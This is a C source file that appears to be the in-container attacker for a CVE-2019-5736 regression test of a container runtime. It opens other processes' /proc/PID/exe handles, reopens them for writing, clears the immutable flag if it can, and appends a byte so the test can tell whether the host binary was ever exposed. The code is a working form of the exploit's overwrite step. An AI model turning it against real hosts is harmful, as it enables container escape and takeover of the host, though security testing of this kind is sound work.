/* exe_watch.c - the attacker of the CVE-2019-5736 test, run as a container's process.
 *
 * It polls /proc for every other process of the container, opens /proc/PID/exe the way
 * the 2019 exploit did (read-only first: a write open of a running binary fails with
 * ETXTBSY), then tries to reopen that handle for writing through /proc/self/fd and to
 * append one byte; refused with EPERM (an immutable file), it clears the flag through
 * the handle if it can (CAP_LINUX_IMMUTABLE) and tries again.  For each process it
 * prints one line:
 *   exe PID DEV:INO LINK write=ok|ERRNO
 * so the test can tell whether the container ever held the host's skiff file.  Stops
 * after `seconds` (argv[1], default 20) or on SIGTERM. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 4096

static int seen[MAX_SEEN];
static int n_seen;

static int was_seen(int pid)
{
  for (int i = 0; i < n_seen; i++)
    if (seen[i] == pid)
      return 1;
  return 0;
}

static void attack(int pid)
{
  char path[64], link[512], fdpath[64];
  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return; /* not (yet) allowed or already gone: try again next round */
  ssize_t n = readlink(path, link, sizeof(link) - 1);
  link[n > 0 ? n : 0] = '\0';
  struct stat st;
  if (fstat(fd, &st) < 0)
    {
      close(fd);
      return;
    }
  if (n_seen < MAX_SEEN)
    seen[n_seen++] = pid;
  snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
  const char *res = "ok";
  int w = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC), flags = 0;
  if (w < 0 && errno == EPERM && ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0
      && (flags & FS_IMMUTABLE_FL))
    {
      flags &= ~FS_IMMUTABLE_FL;
      if (ioctl(fd, FS_IOC_SETFLAGS, &flags) == 0)
        w = open(fdpath, O_WRONLY | O_APPEND | O_CLOEXEC);
      else
        errno = EPERM;
    }
  if (w < 0)
    res = strerror(errno);
  else if (write(w, "", 0) < 0 || write(w, "X", 1) != 1)
    res = strerror(errno);
  if (w >= 0)
    close(w);
  printf("exe %d %lu:%lu %s write=%s\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino,
         link, res);
  fflush(stdout);
  close(fd);
}

int main(int argc, char **argv)
{
  int secs = argc > 1 ? atoi(argv[1]) : 20;
  int self = getpid();
  time_t end = time(NULL) + secs;
  printf("watching\n");
  fflush(stdout);
  while (time(NULL) < end)
    {
      DIR *d = opendir("/proc");
      if (d == NULL)
        return 1;
      struct dirent *e;
      while ((e = readdir(d)) != NULL)
        {
          int pid = atoi(e->d_name);
          if (pid <= 0 || pid == self || was_seen(pid))
            continue;
          attack(pid);
        }
      closedir(d);
    }
  return 0;
}
